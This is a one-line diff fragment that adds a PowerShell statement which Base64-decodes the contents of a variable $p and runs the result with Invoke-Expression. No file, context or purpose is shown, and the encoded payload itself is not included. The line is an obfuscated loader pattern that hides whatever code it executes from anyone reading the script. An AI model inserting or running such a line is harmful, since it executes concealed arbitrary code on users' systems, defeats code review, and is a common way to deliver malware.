@@ -1,0 +1,1 @@
+iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))
